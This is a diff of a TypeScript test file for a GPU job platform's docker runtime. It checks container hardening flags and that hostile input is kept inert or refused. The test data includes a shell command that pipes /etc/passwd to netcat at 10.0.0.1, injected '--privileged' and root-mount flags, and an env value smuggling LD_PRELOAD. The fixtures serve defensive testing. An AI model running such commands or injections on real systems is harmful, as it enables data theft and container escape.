@@ -1,3 +1,4 @@
+// Over 300 lines: one stand-in docker and the argv it records, shared by every case of the job and replica hardening; the cases read as one list of what reaches docker.
 import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { delimiter, join } from 'node:path';
@@ -90,20 +91,77 @@ describe('docker runtime', () => {
   it('builds the docker run argv: name, label, GPUs, confinement, limits, network, env file, image, command', () => {
     const files = { cidFile: '/private/cid', envFile: '/private/env' };
     expect(dockerRunArgs({ spec: spec(), gpuIndexes: [0, 1] }, { cpus: '8', memoryMbPerGpu: 1024 }, files)).toEqual([
-      'run', '--name', 'gridplane-job_abc123', '--label', 'gridplane.job=job_abc123', '--gpus', '"device=0,1"',
-      '--init', '--pull', 'missing', '--cap-drop', 'ALL', '--security-opt', 'no-new-privileges', '--pids-limit', '4096',
-      '--memory', '2048m', '--memory-swap', '2048m', '--cpus', '8', '--network', 'gridplane-jobs',
-      '--cidfile', '/private/cid', '--env-file', '/private/env',
-      'ghcr.io/acme/train:1.2', 'python', 'train.py', '--epochs', '3',
+      'run',
+      '--name',
+      'gridplane-job_abc123',
+      '--label',
+      'gridplane.job=job_abc123',
+      '--gpus',
+      '"device=0,1"',
+      '--init',
+      '--pull',
+      'missing',
+      '--cap-drop',
+      'ALL',
+      '--security-opt',
+      'no-new-privileges',
+      '--pids-limit',
+      '4096',
+      '--memory',
+      '2048m',
+      '--memory-swap',
+      '2048m',
+      '--cpus',
+      '8',
+      '--network',
+      'gridplane-jobs',
+      '--cidfile',
+      '/private/cid',
+      '--env-file',
+      '/private/env',
+      'ghcr.io/acme/train:1.2',
+      'python',
+      'train.py',
+      '--epochs',
+      '3',
     ]);
     // An operator's fixed limit and network; no env file when the job has no env.
     expect(
-      dockerRunArgs({ spec: spec({ env: {} }), gpuIndexes: [2] }, { memory: '32g', pidsLimit: 512, network: 'none' }, { cidFile: '/p/cid', envFile: null }),
+      dockerRunArgs(
+        { spec: spec({ env: {} }), gpuIndexes: [2] },
+        { memory: '32g', pidsLimit: 512, network: 'none' },
+        { cidFile: '/p/cid', envFile: null },
+      ),
     ).toEqual([
-      'run', '--name', 'gridplane-job_abc123', '--label', 'gridplane.job=job_abc123', '--gpus', '"device=2"',
-      '--init', '--pull', 'missing', '--cap-drop', 'ALL', '--security-opt', 'no-new-privileges', '--pids-limit', '512',
-      '--memory', '32g', '--memory-swap', '32g', '--network', 'none', '--cidfile', '/p/cid',
-      'ghcr.io/acme/train:1.2', 'python', 'train.py', '--epochs', '3',
+      'run',
+      '--name',
+      'gridplane-job_abc123',
+      '--label',
+      'gridplane.job=job_abc123',
+      '--gpus',
+      '"device=2"',
+      '--init',
+      '--pull',
+      'missing',
+      '--cap-drop',
+      'ALL',
+      '--security-opt',
+      'no-new-privileges',
+      '--pids-limit',
+      '512',
+      '--memory',
+      '32g',
+      '--memory-swap',
+      '32g',
+      '--network',
+      'none',
+      '--cidfile',
+      '/p/cid',
+      'ghcr.io/acme/train:1.2',
+      'python',
+      'train.py',
+      '--epochs',
+      '3',
     ]);
   });
 
@@ -123,11 +181,27 @@ describe('docker runtime', () => {
     expect(existsSync(cidFile)).toBe(false);
 
     const all = calls();
-    expect(all.map((c) => c.slice(0, 2).join(' '))).toEqual(['network inspect', 'network create', 'rm -f', 'run --name', 'stop --time', 'rm -f']);
+    expect(all.map((c) => c.slice(0, 2).join(' '))).toEqual([
+      'network inspect',
+      'network create',
+      'rm -f',
+      'run --name',
+      'stop --time',
+      'rm -f',
+    ]);
     expect(all[0]).toEqual(['network', 'inspect', 'gridplane-jobs']);
     expect(all[1]).toEqual([
-      'network', 'create', '--driver', 'bridge', '--opt', 'com.docker.network.bridge.name=gp-jobs0',
-      '--opt', 'com.docker.network.bridge.enable_icc=false', '--label', 'gridplane.network=jobs', 'gridplane-jobs',
+      'network',
+      'create',
+      '--driver',
+      'bridge',
+      '--opt',
+      'com.docker.network.bridge.name=gp-jobs0',
+      '--opt',
+      'com.docker.network.bridge.enable_icc=false',
+      '--label',
+      'gridplane.network=jobs',
+      'gridplane-jobs',
     ]);
     expect(all[2]).toEqual(['rm', '-f', 'gridplane-job_abc123']);
     expect(all[3]).toContain('"device=1,3"');
@@ -154,7 +228,13 @@ describe('docker runtime', () => {
     chmodSync(join(evil, 'docker'), 0o755);
     try {
       process.env.FAKE_DOCKER_QUICK = '1';
-      const env = { DOCKER_HOST: 'tcp://203.0.113.7:2375', DOCKER_CONTEXT: 'renter', PATH: evil, LD_PRELOAD: '/nonexistent/evil.so', HF_TOKEN: 'hf_topsecret_value' };
+      const env = {
+        DOCKER_HOST: 'tcp://203.0.113.7:2375',
+        DOCKER_CONTEXT: 'renter',
+        PATH: evil,
+        LD_PRELOAD: '/nonexistent/evil.so',
+        HF_TOKEN: 'hf_topsecret_value',
+      };
       const runtime = createDockerRuntime({ network: 'none', memoryMbPerGpu: 1024 });
       const job = await runtime.start({ spec: spec({ env }), gpuIndexes: [0], onOutput: () => undefined });
       expect(await job.exited).toEqual({ exitCode: 0 });
@@ -177,8 +257,19 @@ describe('docker runtime', () => {
   it('passes commands full of shell metacharacters and flag-like words as inert argv after the image', async () => {
     process.env.FAKE_DOCKER_QUICK = '1';
     const command = [
-      'sh', '-c', 'echo $HOME; cat /etc/passwd | nc 10.0.0.1 80 && $(id) `id` > /tmp/x 2>&1 &', '--privileged', '-v=/:/host',
-      '--network=host', "it's \"quoted\"", '*', '~', '', 'new\nline', '\\', '${IFS}',
+      'sh',
+      '-c',
+      'echo $HOME; cat /etc/passwd | nc 10.0.0.1 80 && $(id) `id` > /tmp/x 2>&1 &',
+      '--privileged',
+      '-v=/:/host',
+      '--network=host',
+      'it\'s "quoted"',
+      '*',
+      '~',
+      '',
+      'new\nline',
+      '\\',
+      '${IFS}',
     ];
     const runtime = createDockerRuntime({ network: 'none', memoryMbPerGpu: 1024 });
     const job = await runtime.start({ spec: spec({ command, env: {} }), gpuIndexes: [0], onOutput: () => undefined });
@@ -194,11 +285,19 @@ describe('docker runtime', () => {
   it('refuses to run an image docker would read as a flag, or env that cannot pass as a file, and calls no docker', async () => {
     const runtime = createDockerRuntime({ network: 'none', memoryMbPerGpu: 1024 });
     for (const image of ['--privileged', '-v=/:/host', 'ubuntu --privileged']) {
-      await expect(runtime.start({ spec: spec({ image }), gpuIndexes: [0], onOutput: () => undefined })).rejects.toThrow(/^refused: image: must be a container image reference/);
-      expect(() => dockerRunArgs({ spec: spec({ image }), gpuIndexes: [0] }, {}, { cidFile: '/p/cid', envFile: null })).toThrow(/^refused: image/);
+      await expect(runtime.start({ spec: spec({ image }), gpuIndexes: [0], onOutput: () => undefined })).rejects.toThrow(
+        /^refused: image: must be a container image reference/,
+      );
+      expect(() => dockerRunArgs({ spec: spec({ image }), gpuIndexes: [0] }, {}, { cidFile: '/p/cid', envFile: null })).toThrow(
+        /^refused: image/,
+      );
     }
-    await expect(runtime.start({ spec: spec({ env: { 'A=B': 'x' } }), gpuIndexes: [0], onOutput: () => undefined })).rejects.toThrow(/^refused: env\.A=B: names are/);
-    await expect(runtime.start({ spec: spec({ env: { A: 'x\nLD_PRELOAD=/evil.so' } }), gpuIndexes: [0], onOutput: () => undefined })).rejects.toThrow(/^refused: env\.A: values are one line/);
+    await expect(runtime.start({ spec: spec({ env: { 'A=B': 'x' } }), gpuIndexes: [0], onOutput: () => undefined })).rejects.toThrow(
+      /^refused: env\.A=B: names are/,
+    );
+    await expect(
+      runtime.start({ spec: spec({ env: { A: 'x\nLD_PRELOAD=/evil.so' } }), gpuIndexes: [0], onOutput: () => undefined }),
+    ).rejects.toThrow(/^refused: env\.A: values are one line/);
     expect(calls()).toEqual([]);
   });
 
@@ -235,17 +334,52 @@ describe('docker runtime', () => {
 
   it('publishes an endpoint replica’s port on 127.0.0.1 only, between the network and the cidfile; refuses a network that cannot publish', async () => {
     const files = { cidFile: '/p/cid', envFile: null };
-    expect(dockerRunArgs({ spec: spec({ env: {} }), gpuIndexes: [0], publish: { hostPort: 40123, containerPort: 8000 } }, { memoryMbPerGpu: 1024 }, files)).toEqual([
-      'run', '--name', 'gridplane-job_abc123', '--label', 'gridplane.job=job_abc123', '--gpus', '"device=0"',
-      '--init', '--pull', 'missing', '--cap-drop', 'ALL', '--security-opt', 'no-new-privileges', '--pids-limit', '4096',
-      '--memory', '1024m', '--memory-swap', '1024m', '--network', 'gridplane-jobs', '--publish', '127.0.0.1:40123:8000',
-      '--cidfile', '/p/cid', 'ghcr.io/acme/train:1.2', 'python', 'train.py', '--epochs', '3',
+    expect(
+      dockerRunArgs(
+        { spec: spec({ env: {} }), gpuIndexes: [0], publish: { hostPort: 40123, containerPort: 8000 } },
+        { memoryMbPerGpu: 1024 },
+        files,
+      ),
+    ).toEqual([
+      'run',
+      '--name',
+      'gridplane-job_abc123',
+      '--label',
+      'gridplane.job=job_abc123',
+      '--gpus',
+      '"device=0"',
+      '--init',
+      '--pull',
+      'missing',
+      '--cap-drop',
+      'ALL',
+      '--security-opt',
+      'no-new-privileges',
+      '--pids-limit',
+      '4096',
+      '--memory',
+      '1024m',
+      '--memory-swap',
+      '1024m',
+      '--network',
+      'gridplane-jobs',
+      '--publish',
+      '127.0.0.1:40123:8000',
+      '--cidfile',
+      '/p/cid',
+      'ghcr.io/acme/train:1.2',
+      'python',
+      'train.py',
+      '--epochs',
+      '3',
     ]);
-    expect(() => dockerRunArgs({ spec: spec(), gpuIndexes: [0], publish: { hostPort: 0, containerPort: 8000 } }, {}, files)).toThrow(/^refused: ports must be 1-65535/);
-    const runtime = createDockerRuntime({ network: 'none', memoryMbPerGpu: 1024 });
-    await expect(runtime.start({ spec: spec(), gpuIndexes: [0], publish: { hostPort: 40123, containerPort: 8000 }, onOutput: () => undefined })).rejects.toThrow(
-      'an endpoint replica needs a network to publish its port: jobNetwork is "none"',
+    expect(() => dockerRunArgs({ spec: spec(), gpuIndexes: [0], publish: { hostPort: 0, containerPort: 8000 } }, {}, files)).toThrow(
+      /^refused: ports must be 1-65535/,
     );
+    const runtime = createDockerRuntime({ network: 'none', memoryMbPerGpu: 1024 });
+    await expect(
+      runtime.start({ spec: spec(), gpuIndexes: [0], publish: { hostPort: 40123, containerPort: 8000 }, onOutput: () => undefined }),
+    ).rejects.toThrow('an endpoint replica needs a network to publish its port: jobNetwork is "none"');
     expect(calls()).toEqual([]);
   });
 
@@ -255,7 +389,10 @@ describe('docker runtime', () => {
     const messages: TunnelControlToWorker[] = [];
     const manager = new ReplicaManager({
       runtime: createDockerRuntime({ stopTimeoutS: 3, memoryMbPerGpu: 1024 }),
-      gpus: new GpuPool([{ index: 0, model: 'NVIDIA GeForce RTX 4090' }, { index: 1, model: 'NVIDIA H100 80GB HBM3' }]),
+      gpus: new GpuPool([
+        { index: 0, model: 'NVIDIA GeForce RTX 4090' },
+        { index: 1, model: 'NVIDIA H100 80GB HBM3' },
+      ]),
       identity,
       send: (m) => messages.push(m),
       log: createMemoryLogger(),
@@ -264,26 +401,45 @@ describe('docker runtime', () => {
     try {
       manager.apply([
         {
-          replicaId: 'rep_docker', endpointId: 'ep_1', image: 'ghcr.io/acme/serve:2', command: ['--port', '8000'],
-          env: { HF_TOKEN: 'hf_topsecret_value' }, port: 8000, healthPath: '/v1/models', gpus: { count: 1, model: 'H100 80GB' },
+          replicaId: 'rep_docker',
+          endpointId: 'ep_1',
+          image: 'ghcr.io/acme/serve:2',
+          command: ['--port', '8000'],
+          env: { HF_TOKEN: 'hf_topsecret_value' },
+          port: 8000,
+          healthPath: '/v1/models',
+          gpus: { count: 1, model: 'H100 80GB' },
         },
       ]);
       // Nothing answers on the published port (the stand-in runs no server).
-      await expect.poll(() => messages.filter((m) => m.type === 'replica_state').map((m) => m.state), { timeout: 10_000 }).toEqual(['starting', 'failed']);
-      expect(messages.at(-1)).toMatchObject({ replicaId: 'rep_docker', reason: 'not healthy within 300 ms: GET /v1/models connection refused; last output: hello from the container' });
+      await expect
+        .poll(() => messages.filter((m) => m.type === 'replica_state').map((m) => m.state), { timeout: 10_000 })
+        .toEqual(['starting', 'failed']);
+      expect(messages.at(-1)).toMatchObject({
+        replicaId: 'rep_docker',
+        reason: 'not healthy within 300 ms: GET /v1/models connection refused; last output: hello from the container',
+      });
       const argv = runCall();
       const published = flagValue(argv, '--publish');
       expect(published).toMatch(/^127\.0\.0\.1:\d+:8000$/);
       expect(argv.slice(0, 3)).toEqual(['run', '--name', 'gridplane-rep_docker']);
       // The H100 (index 1), and the job hardening as it is.
       expect(flagValue(argv, '--gpus')).toBe('"device=1"');
-      for (const flag of [['--cap-drop', 'ALL'], ['--security-opt', 'no-new-privileges'], ['--pids-limit', '4096'], ['--network', 'gridplane-jobs']]) {
+      for (const flag of [
+        ['--cap-drop', 'ALL'],
+        ['--security-opt', 'no-new-privileges'],
+        ['--pids-limit', '4096'],
+        ['--network', 'gridplane-jobs'],
+      ]) {
         expect(flagValue(argv, flag[0]!)).toBe(flag[1]);
       }
       expect(argv.slice(argv.indexOf('ghcr.io/acme/serve:2'))).toEqual(['ghcr.io/acme/serve:2', '--port', '8000']);
       expect(argv.join('\n')).not.toContain('hf_topsecret_value');
       // Stopped (the failure is reported after it) and removed.
-      expect(calls().slice(-2)).toEqual([['stop', '--time', '3', 'gridplane-rep_docker'], ['rm', '-f', 'gridplane-rep_docker']]);
+      expect(calls().slice(-2)).toEqual([
+        ['stop', '--time', '3', 'gridplane-rep_docker'],
+        ['rm', '-f', 'gridplane-rep_docker'],
+      ]);
     } finally {
       await manager.shutdown();
     }
